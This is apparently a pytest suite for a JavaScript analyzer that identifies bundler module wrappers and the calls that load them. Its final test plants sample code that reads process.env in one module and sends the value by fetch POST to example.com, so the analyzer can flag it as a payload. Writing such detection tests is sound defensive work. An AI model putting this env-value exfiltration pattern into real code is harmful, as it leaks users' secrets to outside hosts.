"""Which functions are modules of a bundle, and which calls load them? Small texts in the shapes that bundlers write."""

from __future__ import annotations

from pathlib import Path
from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from analyzer.linking.bundlers import Wrappers, find_wrappers
from analyzer.linking.bundlers.shapes import number_key
from analyzer.linking.program import Program, link
from analyzer.scope.bindings import bind
from analyzer.syntax import kinds as k
from analyzer.syntax import parse

LOADER = "function r(k){var c=n[k];if(c)return c.exports;var m=n[k]={exports:{}};return t[k](m,m.exports,r),m.exports}"
RUNTIME = f"(()=>{{var t={{TABLE}},n={{}};{LOADER}HELPERS;MAIN}})()"


def linked(*texts: str) -> tuple[Program, Wrappers]:
    """The wrappers of a program whose files are `dist/0.js`, `dist/1.js`, …"""
    trees = [parse(f"dist/{number}.js", text.encode(), module=None) for number, text in enumerate(texts)]
    program = link([(tree, bind(tree)) for tree in trees])
    return program, find_wrappers(program)


def webpack(table: str, main: str = "r(1)", helpers: str = "") -> str:
    """A bundle of webpack's with these modules."""
    return RUNTIME.replace("TABLE", table).replace("HELPERS", helpers).replace("MAIN", main)


def loads(program: Program, wrappers: Wrappers) -> dict[str, str]:
    """What each call loads: its text -> the key of the module."""
    keys = {module.function: module.key for module in wrappers.modules}
    return {program.source(call): keys[unit] for call, unit in wrappers.required.items()}


def keys(wrappers: Wrappers) -> list[str]:
    return [module.key for module in wrappers.modules]


def test_a_table_that_a_loader_calls_with_an_object_and_its_exports_holds_modules() -> None:
    program, wrappers = linked(webpack('1:(m,e,q)=>{q(2);q("./src/a.js")},2:(m)=>{},"./src/a.js":function(m,e){}'))
    assert keys(wrappers) == ["1", "2", "./src/a.js"]
    assert loads(program, wrappers) == {"r(1)": "1", "q(2)": "2", 'q("./src/a.js")': "./src/a.js"}
    assert {(module.file, module.bundler) for module in wrappers.modules} == {("dist/0.js", "webpack")}
    assert any("3 modules" in text for text in wrappers.evidence)


def test_the_parameters_of_a_factory_are_told_by_the_call_not_by_their_order() -> None:
    text = webpack("1:(q,e,m)=>{m.exports=q(2)},2:(q,e)=>{e.a=1}").replace("t[k](m,m.exports,r)", "t[k](r,m.exports,m)")
    program, wrappers = linked(text)
    unit = wrappers.factories[wrappers.modules[0].function]
    assert (program.strings[program.binding_name[unit.module]], program.strings[program.binding_name[unit.exports]]) == ("m", "e")
    assert loads(program, wrappers)["q(2)"] == "2"


@pytest.mark.parametrize(
    "change",
    [
        ("t[k](m,m.exports,r)", "t[k](n,n.other,r)"),  # no exports
        ("t[k](m,m.exports,r)", "t.run(m,m.exports,r)"),  # no look-up
        ("t[k](m,m.exports,r)", "t[0](m,m.exports,r)"),  # not by the parameter
        ("function r(k)", "function r(o)"),  # the key is no parameter
    ],
)
def test_what_is_called_in_another_way_is_no_table_of_modules(change: tuple[str, str]) -> None:
    text = webpack("1:(m,e,q)=>{q(2)},2:(m)=>{}")
    assert change[0] in text
    text = text.replace(*change).replace("exports:{}", "other:{}") if "other" in change[1] else text.replace(*change)
    assert linked(text)[1].modules == []


def test_a_table_is_found_behind_the_parameter_of_a_function_that_is_called_in_place() -> None:
    _, wrappers = linked("!function(t){var n={};" + LOADER + "r(r.s=1)}([function(m,e){},,function(m,e,q){q(0)}])")
    assert keys(wrappers) == ["0", "2"], "a hole of the array is a place"


def test_a_loader_that_is_called_in_place_loads_too() -> None:
    bundle = webpack('1:m=>{m.exports=require("os")}', main="").replace(LOADER, f"var o={LOADER}(1)")
    program, wrappers = linked(bundle)
    assert list(loads(program, wrappers).values()) == ["1"]


DRIVER = """var run=(self,args,g)=>new Promise((ok,no)=>{var next=v=>{try{step(g.next(v))}catch(e){no(e)}},
fail=v=>{try{step(g.throw(v))}catch(e){no(e)}},step=x=>x.done?ok(x.value):Promise.resolve(x.value).then(next,fail);
step((g=g.apply(self,args)).next())});"""


def test_a_generator_that_a_helper_drives_is_an_async_function() -> None:
    program, wrappers = linked(DRIVER + "run(this,null,function*(){yield 1;yield*other();yield});")
    (driver,) = wrappers.drivers.values()
    assert (driver.slot, driver.at_once, driver.passes_receiver) == (2, True, True)
    assert [program.source(node) for node in range(len(program.kind)) if program.kind[node] == k.AWAIT] == ["yield 1"]
    assert [program.source(node) for node in range(len(program.kind)) if program.kind[node] == k.YIELD] == ["yield*other()", "yield"]
    assert sum(bool(flags & k.ASYNC) for flags in program.flags) == 1


@pytest.mark.parametrize("change", [("g.throw", "g.stop"), ("new Promise", "list.map"), ("g=g.apply", "g=h.apply")])
def test_a_helper_of_another_shape_drives_nothing(change: tuple[str, str]) -> None:
    program, wrappers = linked(DRIVER.replace(*change) + "run(this,null,function*(){yield 1});")
    assert not wrappers.drivers
    assert k.AWAIT not in program.kind


def test_an_array_may_begin_later() -> None:
    assert keys(linked("!function(t){var n={};" + LOADER + "r(7)}(Array(7).concat([function(m,e){}]))")[1]) == ["7"]


def test_the_entry_is_known_by_the_value_of_an_assignment() -> None:
    program, wrappers = linked(webpack("1:(m)=>{}", "r(r.s=1)"))
    assert loads(program, wrappers) == {"r(r.s=1)": "1"}


def test_two_registries_of_one_file_keep_their_keys_apart() -> None:
    inner = webpack("1:(m,e,q)=>{q(2)},2:(m)=>{m.exports='inner'}", "r(1)")
    program, wrappers = linked(webpack("1:(m,e,q)=>{q(2)},2:(m)=>{" + inner + "}"))
    sources = sorted(program.source(wrappers.required[call]) for call in wrappers.required if program.source(call) == "q(2)")
    assert len(sources) == 2
    assert sources[0] != sources[1]


def test_a_chunk_belongs_to_the_loader_of_the_nearest_file() -> None:
    chunk = "exports.ids=[7];exports.modules={12:(m,e,q)=>{q(1);q(13)},13:(m,e,q)=>{}}"
    program, wrappers = linked(webpack("1:(m,e,q)=>{}", "r.e(7).then(r.bind(r,12))"), chunk)
    assert loads(program, wrappers) == {"r.e(7).then(r.bind(r,12))": "12", "q(1)": "1", "q(13)": "13"}


@pytest.mark.parametrize(
    "chunk",
    [
        "(self.webpackChunkx=self.webpackChunkx||[]).push([[7],{12:(m,e,q)=>{}}])",
        "export const __webpack_ids__=[7];export const __webpack_modules__={12:(m,e,q)=>{}};",
        "exports.id=7;exports.ids=[7];exports.modules={12(m,e,q){}}",
    ],
)
def test_all_forms_of_chunks_are_known(chunk: str) -> None:
    assert keys(linked(chunk)[1]) == ["12"]


@pytest.mark.parametrize(
    "text",
    [
        "exports.modules={12:(m,e,q)=>{}}",
        "exports.ids=[7];exports.modules={12:(m,e,q)=>{},13:5}",
        "exports.ids=[7];exports.modules={12:(a,b,c,d)=>{}}",
        "list.push([[x],{12:(m,e,q)=>{}}])",
        "list.push({12:(m,e,q)=>{}})",
    ],
)
def test_other_tables_of_functions_are_no_chunks(text: str) -> None:
    assert linked(text)[1].modules == []


def test_helpers_publish_getters_whatever_their_name() -> None:
    helpers = "r.zz=(e,d)=>{for(var k in d)Object.defineProperty(e,k,{enumerable:true,get:d[k]})}"
    _, wrappers = linked(webpack("1:(m,e,q)=>{q.zz(e,{a:()=>v,b:function(){return v}});var v}", helpers=helpers))
    (unit,) = wrappers.factories.values()
    assert [chain for chain, _ in wrappers.published[unit.exports]] == [("a",), ("b",)]


def test_a_helper_of_another_shape_publishes_nothing() -> None:
    _, wrappers = linked(webpack("1:(m,e,q)=>{q.d(e,{a:()=>1})}", helpers="r.d=(e,d)=>{console.log(e,d)}"))
    assert wrappers.published == {}


def test_a_list_publishes_getters_and_values() -> None:
    program, wrappers = linked(webpack('1:(m,e,q)=>{q.d(e,["a",()=>v,"b",0,"text"]);var v}'))
    (unit,) = wrappers.factories.values()
    assert [chain for chain, _ in wrappers.published[unit.exports]] == [("a",)]
    assert [(chain, program.source(node)) for chain, node in wrappers.shown[unit.exports]] == [(("b",), '"text"')]


def test_a_getter_of_a_default_export_is_followed_to_its_calls() -> None:
    program, wrappers = linked(webpack("1:(m,e,q)=>{var x=q(2),y=q.n(x);y()(5)},2:(m)=>{}"))
    assert [(program.source(call), program.source(module)) for call, module in wrappers.got.items()] == [("y()", "x")]


def test_what_a_module_waits_for_is_what_it_gives_the_helper() -> None:
    program, wrappers = linked(webpack("1:(m,e,q)=>{q.a(m,async(w,d)=>{var x=q(2),y=w([x]);w(5);d()})},2:(m)=>{}"))
    assert [(program.source(call), program.source(given)) for call, given in wrappers.same.items()] == [("w([x])", "[x]")]


def test_an_object_of_getters_is_made_by_helpers_of_two_shapes() -> None:
    exposer = "var x=g=>{var o={};q.d(o,g);return o};"
    program, wrappers = linked(webpack("1:(m,e,q)=>{" + exposer + "m.exports=x({a:()=>1})}"))
    assert [program.source(call) for call in wrappers.exposed] == ["x({a:()=>1})"]
    rolldown = "var E=(all,flags)=>{let t={};for(var n in all)define(t,n,{get:all[n]});return t};var names=E({a:()=>1});"
    program, wrappers = linked(rolldown)
    assert [program.source(call) for call in wrappers.exposed] == ["E({a:()=>1})"]


def test_browserify_goes_by_the_words_of_each_module() -> None:
    text = (
        "(function(){function r(e,n,t){function o(i,f){if(!n[i]){var p=n[i]={exports:{}};"
        "e[i][0].call(p.exports,function(x){return o(e[i][1][x]||x)},p,p.exports,r,e,n,t)}return n[i].exports}return o}return r})()"
        '({1:[function(q,m,e){q("./b");q("os");q("./gone")},{"./b":2,"os":undefined}],2:[function(q,m,e){},{}]},{},[1])'
    )
    program, wrappers = linked(text)
    assert loads(program, wrappers) == {'q("./b")': "2"}
    assert {program.source(call): name for call, name in wrappers.outside.items()} == {'q("os")': "os"}
    assert any("1 ask for one that is in no table" in text for text in wrappers.evidence)


def test_parcel_registers_modules_across_files() -> None:
    first = (
        "var c={},i={},g=globalThis,p=g.parcelRequire1;null==p&&((p=function(k){if(k in c)return c[k].exports;var f=i[k];"
        "var m={id:k,exports:{}};c[k]=m;f.call(m.exports,m,m.exports);return m.exports})"
        ".register=function(k,f){i[k]=f},g.parcelRequire1=p);"
        'var s=p.register;s("a",function(m,e){p("b")})'
    )
    second = 'var p=globalThis.parcelRequire1,s=p.register;s("b",function(m,e){e.x=1})'
    program, wrappers = linked(first, second)
    assert [(module.key, module.file) for module in wrappers.modules] == [("b", "dist/1.js"), ("a", "dist/0.js")]
    assert loads(program, wrappers) == {'p("b")': "b"}


def test_metro_numbers_modules_and_their_dependencies() -> None:
    calls = ";".join(f"d(function(g,r,a,b,m,e,l){{r(l[0])}},{number},[{number + 1}])" for number in range(3))
    program, wrappers = linked(calls)
    assert keys(wrappers) == ["0", "1", "2"]
    assert [loads(program, wrappers)[text] for text in ("r(l[0])",)] == ["2"]
    assert linked("d(function(g,r,a,b,m,e,l){},1,[2])")[1].modules == [], "one call is no bundle"


def test_rollup_creates_a_module_in_place() -> None:
    text = "function c(f,m){return m={exports:{}},f(m,m.exports),m.exports}var lodash=c(function(m,e){e.x=1});"
    program, wrappers = linked(text)
    assert [(module.key, module.bundler) for module in wrappers.modules] == [("lodash", "rollup")]
    assert [program.source(call)[:2] for call in wrappers.required] == ["c("]


def test_a_function_that_is_called_in_place_shares_the_object_it_is_given() -> None:
    program, wrappers = linked("var x={exports:{}};(function(m,e){m.exports=5})(x,x.exports);(function(N){N.a=1})(N||(N={}));var N")
    found = {
        program.strings[program.binding_name[binding]]: [(chain, program.source(parameter)) for chain, parameter in aliases]
        for binding, aliases in wrappers.aliases.items()
    }
    assert found == {"x": [((), "m")], "N": [((), "N")]}


def test_a_helper_that_another_file_exports_is_one_variable_there() -> None:
    from analyzer.linking.modules import link_modules

    helper = "var k=(c,m)=>()=>(m||c((m={exports:{}}).exports,m),m.exports);export{k as a};"
    user = 'import{a as w}from"./chunk.js";var q=w((e,m)=>{m.exports=1});q();'
    trees = [parse(path, text.encode(), module=True) for path, text in (("chunk.js", helper), ("index.js", user))]
    program = link([(tree, bind(tree)) for tree in trees])
    link_modules(program, {})
    assert [module.file for module in find_wrappers(program).modules] == ["index.js"]


def test_paths_that_bundlers_leave_name_the_modules() -> None:
    helper = "var K=(c,m)=>()=>(m||c((m={exports:{}}).exports,m),m.exports);\n"
    keyed = helper + 'var a=K({"src/a.js"(e,m){m.exports=1}});'
    commented = helper + "// node_modules/b/index.js\nvar b=K((e,m)=>{m.exports=1});"
    assert keys(linked(keyed)[1]) == ["src/a.js"]
    assert keys(linked(commented)[1]) == ["node_modules/b/index.js"]


def test_deep_nesting_and_cycles_end() -> None:
    deep = "(" * 3000 + "q(1)" + ")" * 3000
    program, wrappers = linked(webpack(f"1:(m,e,q)=>{{m.exports=q(1);{deep}}}", "r(r=r=r=1)"))
    assert set(loads(program, wrappers).values()) == {"1"}


@pytest.mark.parametrize(
    "text",
    [
        webpack("1:(m)=>{}").replace("t[k](m,m.exports,r)", ",".join(["t[k](m,m.exports,r)"] * 8000)),
        "var f;" + "f(m,m.exports);" * 8000,
        "var m,f;" + "m={exports:{}};f(m);f=5;" * 8000,
        webpack("1:(m,e,q)=>{e.x=function(a,b,c){Object.defineProperty(a,b,{get:c})}}", "var x;" + "x=r(1);x.x(a,'b',c);" * 8000),
        "(function(N){N.a=1})(N||(N={}));" * 8000,
    ],
    ids=["calls of a table", "calls with exports", "writes", "loads", "functions in place"],
)
def test_time_grows_with_the_text_alone(text: str) -> None:
    tree = parse("a.js", text.encode(), module=None)
    program = link([(tree, bind(tree))])
    assert program.function_of
    begin = process_time()
    find_wrappers(program)
    assert process_time() - begin < 4


@given(st.integers(min_value=0, max_value=2**53 - 1))
def test_a_number_is_the_key_that_it_is_written_for(number: int) -> None:
    assert {number_key(text) for text in (str(number), hex(number), f"{number:_}", oct(number))} == {str(number)}


@given(st.text(max_size=30))
def test_what_is_no_natural_number_is_no_key(text: str) -> None:
    key = number_key(text)
    assert key is None or key.isdigit()


@pytest.mark.parametrize(("text", "key"), [("1e3", "1000"), ("0.5", None), ("1e400", None), ("0x" + "f" * 400, None), ("", None)])
def test_unusual_numbers(text: str, key: str | None) -> None:
    assert number_key(text) == key


SEND = "fetch('https://example.com',{method:'POST',body:VALUE})"
CREATE = "function c(f,m){return m={exports:{}},f(m,m.exports),m.exports}var x=c(function(m,e){e.a=process.env.TZ;e.b='b'});"
IN_PLACE = "var x={exports:{}};(function(m,e){e.a=function(){return process.env.TZ};e.b=function(){return 'b'}})(x,x.exports);"
METRO = (
    "d(function(g,r,a,b,m,e,l){var x=r(l[0]);SEND},0,[1]);d(function(g,r,a,b,m,e,l){e.a=process.env.TZ;e.b='b'},1,[]);"
    "d(function(g,r,a,b,m,e,l){},2,[]);"
)


@pytest.mark.parametrize(
    ("text", "value"),
    [(CREATE + "SEND", "x.KEY"), (IN_PLACE + "SEND", "x.exports.KEY()"), (METRO, "x.KEY")],
    ids=["create", "in place", "Metro"],
)
@pytest.mark.parametrize(("key", "found"), [("a", 1), ("b", 0)])
def test_values_cross_the_borders_of_modules_without_a_sample(tmp_path: Path, text: str, value: str, key: str, found: int) -> None:
    from analyzer import scan

    path = tmp_path / "cli.js"
    path.write_text(text.replace("SEND", SEND.replace("VALUE", value.replace("KEY", key))))
    findings = [finding for finding in scan(str(path)).to_dict()["findings"] if finding["category"] == "payload"]
    assert len(findings) == found
